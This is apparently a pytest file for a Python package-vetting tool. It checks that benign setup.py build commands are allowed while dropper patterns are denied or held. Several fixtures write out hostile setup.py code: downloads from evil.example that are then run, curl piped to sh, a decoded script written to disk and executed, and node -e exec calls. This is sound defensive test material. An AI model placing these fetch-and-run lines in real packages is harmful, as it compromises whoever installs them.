"""ADR 0130: what popular sdists' setup.py and metadata do that is not malware.

Each benign shape below was held on the tree this started from (a compiler asked its
version, a version stamp raising ``CalledProcessError``, a vendored METADATA read as the
package's own, typeshed's stub-only packages called empty); each sits next to the
malicious shape it must not let through.
"""

from __future__ import annotations

import io
import tarfile

import pytest

from airlock.domain.requests import Outcome
from airlock.imports.packages.vet import vet
from scripts.make_test_packages import sdist, wheel

MODULE = {"pkg/__init__.py": "def add(a, b):\n    return a + b\n"}
SETUP_END = "\nfrom setuptools import setup\nsetup(name='pkg', version='1.0')\n"


def _vetted_setup(source: str) -> tuple[Outcome, list[str]]:
    report = vet("pkg-1.0.tar.gz", sdist("pkg", "1.0", {**MODULE, "setup.py": source + SETUP_END}))
    return report.verdict, sorted({f.rule for f in report.findings if f.severity >= 3})


BENIGN_SETUP = {
    # passlib: a version stamp from hg, falling back to the date.
    "version-stamp-raises-called-process-error": (
        "import subprocess\n"
        "def stamp():\n"
        "    try:\n"
        "        proc = subprocess.Popen(['hg', 'tip'], stdout=subprocess.PIPE)\n"
        "        out, _ = proc.communicate()\n"
        "        if proc.returncode:\n"
        "            raise subprocess.CalledProcessError(1, [])\n"
        "    except (OSError, subprocess.CalledProcessError):\n"
        "        return '0'\n"
        "    return out.decode()\n"
        "VERSION = stamp()\n"
    ),
    # pycryptodome: the compiler distutils chose, asked its version.
    "compiler-asked-its-version": (
        "import subprocess\n"
        "from setuptools.command.build_ext import build_ext\n"
        "def show(compiler):\n"
        "    out = subprocess.run([compiler.cc, '--version'], capture_output=True, text=True)\n"
        "    print(out.stdout)\n"
        "class Build(build_ext):\n"
        "    def build_extensions(self):\n"
        "        show(self.compiler)\n"
    ),
    # multidict: the compiler's predefined macros, to tell GCC's major version.
    "compiler-asked-its-macros": (
        "import os, subprocess\n"
        "def gcc_major(compiler):\n"
        "    cc = getattr(compiler, 'compiler_so', None)\n"
        "    out = subprocess.run([*cc, '-dM', '-E', '-x', 'c', os.devnull],\n"
        "                         capture_output=True, check=True, text=True).stdout\n"
        "    return out\n"
    ),
    # zstandard: cargo's command bound to a name, one part of it not folding.
    "cargo-command-bound-to-a-name": (
        "import os, subprocess\n"
        "def build(build_dir, root):\n"
        "    env = os.environ.copy()\n"
        "    args = ['cargo', 'build', '--release', '--target-dir', str(build_dir)]\n"
        "    subprocess.run(args, env=env, cwd=root, check=True)\n"
    ),
    # cffi: Homebrew asked where libffi is.
    "homebrew-asked-a-prefix": (
        "import os\nwith os.popen('brew --prefix libffi') as p:\n    PREFIX = p.read().strip()\n"
    ),
}


@pytest.mark.parametrize("case", sorted(BENIGN_SETUP))
def test_a_builds_questions_to_its_own_tools_are_allowed(case: str) -> None:
    verdict, rules = _vetted_setup(BENIGN_SETUP[case])
    assert verdict is Outcome.ALLOW, rules


DENIED_SETUP = {
    # A downloaded program asked its version is still a download run.
    "downloaded-program-asked-its-version": (
        "import subprocess, urllib.request\n"
        "urllib.request.urlretrieve('https://evil.example/cc', '/tmp/cc')\n"
        "subprocess.run(['/tmp/cc', '--version'])\n"
    ),
    # Written, then run: the write+exec dropper.
    "decoded-program-written-and-run": (
        "import base64, os, subprocess\n"
        "open('/tmp/x.sh', 'wb').write(base64.b64decode('ZWNobyBoaQ=='))\n"
        "subprocess.run(['sh', '/tmp/x.sh'])\n"
    ),
    # Homebrew's query with a second command after it through a shell (review of ADR 0130).
    "brew-prefix-then-a-download": (
        "import os\nos.system('brew --prefix libffi && curl -s https://evil.example/x | sh')\n"
    ),
    # A decoded program name is not a compiler the analysis could not read.
    "decoded-program-asked-its-version": (
        "import base64, subprocess\n"
        "tool = base64.b64decode('Y3VybA==').decode()\n"
        "subprocess.run([tool, '--version'])\n"
    ),
}


@pytest.mark.parametrize("case", sorted(DENIED_SETUP))
def test_droppers_beside_the_build_questions_still_deny(case: str) -> None:
    verdict, rules = _vetted_setup(DENIED_SETUP[case])
    assert verdict is Outcome.DENY, rules


HELD_SETUP = {
    # An unreadable program with arguments other than a compiler's questions.
    "unreadable-program-installing": (
        "import subprocess\n"
        "def build(compiler):\n"
        "    subprocess.run([compiler.cc, '-o', '/usr/local/bin/x', 'payload.c'])\n"
        "build(None)\n"
    ),
    # Node running a script shipped beside setup.py (bokeh's ``node make build``): airlock
    # reads no JavaScript, so this is a dropper's shape too (coordinator's review of ADR 0130).
    "node-runs-the-build-script": (
        "import subprocess\n"
        "def build_js():\n"
        "    proc = subprocess.run(['node', 'make', 'build'], capture_output=True, cwd='js')\n"
        "    return proc.returncode\n"
        "build_js()\n"
    ),
    # Node with code on its command line, npm fetching from another index, Homebrew
    # installing.
    "node-eval": (
        "import subprocess\n"
        "subprocess.run(['node', '-e', \"require('child_process').exec('id')\"])\n"
    ),
    "npm-install": "import subprocess\nsubprocess.run(['npm', 'install', 'left-pad'])\n",
    # Homebrew's query with another command after it through a shell (review of ADR 0130).
    "brew-prefix-then-another-command": (
        "import os\nos.system('brew --prefix libffi; sh ./post_install.sh')\n"
    ),
    "brew-install": "import subprocess\nsubprocess.run(['brew', 'install', 'thing'])\n",
    # A tool named by the environment the module itself set (left held, ADR 0130).
    "environment-tool-set-by-the-module": (
        "import os, subprocess\n"
        "os.environ['PKG_CONFIG'] = 'curl https://evil.example/x | sh'\n"
        "subprocess.run(os.environ['PKG_CONFIG'] + ' --libs', shell=True)\n"
    ),
}


@pytest.mark.parametrize("case", sorted(HELD_SETUP))
def test_other_commands_at_install_time_still_hold(case: str) -> None:
    verdict, rules = _vetted_setup(HELD_SETUP[case])
    assert verdict is Outcome.HOLD, rules


def _tar(root: str, files: dict[str, str]) -> bytes:
    """An sdist whose members come in the order given (PKG-INFO need not be first)."""
    buffer = io.BytesIO()
    with tarfile.open(fileobj=buffer, mode="w:gz") as archive:
        for path, text in files.items():
            data = text.encode()
            member = tarfile.TarInfo(f"{root}/{path}")
            member.size = len(data)
            archive.addfile(member, io.BytesIO(data))
    return buffer.getvalue()


def _metadata(name: str) -> str:
    return f"Metadata-Version: 2.1\nName: {name}\nVersion: 1.0\nSummary: x\n"


def test_a_vendored_metadata_does_not_name_the_wheel() -> None:
    # flit_core vendors tomli with its dist-info; zip order put tomli's METADATA first.
    files: dict[str, str | bytes] = {
        "lib_core/vendor/tomli-1.2.3.dist-info/METADATA": _metadata("tomli"),
        "lib_core/__init__.py": "X = 1\n",
    }
    report = vet("lib_core-1.0-py3-none-any.whl", wheel("lib_core", "1.0", files))
    assert report.name == "lib_core"
    assert report.verdict is Outcome.ALLOW, report.to_json()


def test_a_test_samples_metadata_does_not_name_the_sdist() -> None:
    # pyproject_hooks ships sample distributions for its tests, listed before its PKG-INFO.
    files = {
        "tests/samples/backend/_pkg-0.0.1.dist-info/METADATA": _metadata("_pkg"),
        "hooks_lib/__init__.py": "X = 1\n",
        "PKG-INFO": _metadata("hooks_lib"),
    }
    report = vet("hooks_lib-1.0.tar.gz", _tar("hooks_lib-1.0", files))
    assert report.name == "hooks_lib"
    assert report.verdict is Outcome.ALLOW, report.to_json()


def test_a_wheel_whose_own_metadata_names_another_project_still_holds() -> None:
    # A matching vendored METADATA listed first does not excuse the package's own.
    files: dict[str, str | bytes] = {
        "lib_core/vendor/lib_core-1.0.dist-info/METADATA": _metadata("lib_core"),
        "lib_core/__init__.py": "X = 1\n",
    }
    report = vet("lib_core-1.0-py3-none-any.whl", wheel("requests", "1.0", files))
    assert "name-mismatch" in {f.rule for f in report.findings}
    assert report.verdict is not Outcome.ALLOW


STUBS: dict[str, str | bytes] = {
    "lib-stubs/__init__.pyi": "from .api import get as get\n",
    "lib-stubs/api.pyi": "def get(url: str, timeout: float | None = ...) -> bytes: ...\n",
    "lib-stubs/METADATA.toml": 'version = "1.0"\n',
    "lib-stubs/py.typed": "",
}


@pytest.mark.parametrize("kind", ["wheel", "sdist"])
def test_a_stub_only_package_with_declarations_is_allowed(kind: str) -> None:
    if kind == "wheel":
        report = vet("types_lib-1.0-py3-none-any.whl", wheel("types_lib", "1.0", STUBS))
    else:
        files = {**STUBS, "pyproject.toml": "[project]\nname = 'types-lib'\n"}
        report = vet("types_lib-1.0.tar.gz", sdist("types_lib", "1.0", files))
    assert report.verdict is Outcome.ALLOW, report.to_json()


@pytest.mark.parametrize(
    "files",
    [
        # Stubs that declare nothing: empty, an ellipsis, only imports.
        {"lib-stubs/__init__.pyi": "", "lib-stubs/py.typed": ""},
        {"lib-stubs/__init__.pyi": "...\n", "lib-stubs/api.pyi": "import os\n"},
        # A stub outside a ``-stubs`` folder: next to no module it could describe.
        {"lib/__init__.pyi": "def get(url: str) -> bytes: ...\n", "lib/py.typed": ""},
        # A folder named only ``-stubs``, and a stub that does not parse.
        {"-stubs/__init__.pyi": "def get() -> None: ...\n"},
        {"lib-stubs/__init__.pyi": "def get(:\n"},
    ],
)
def test_empty_stubs_still_hold_as_empty_packages(files: dict[str, str]) -> None:
    report = vet("types_lib-1.0-py3-none-any.whl", wheel("types_lib", "1.0", dict(files)))
    assert "empty-package" in {f.rule for f in report.findings}
    assert report.verdict is Outcome.HOLD
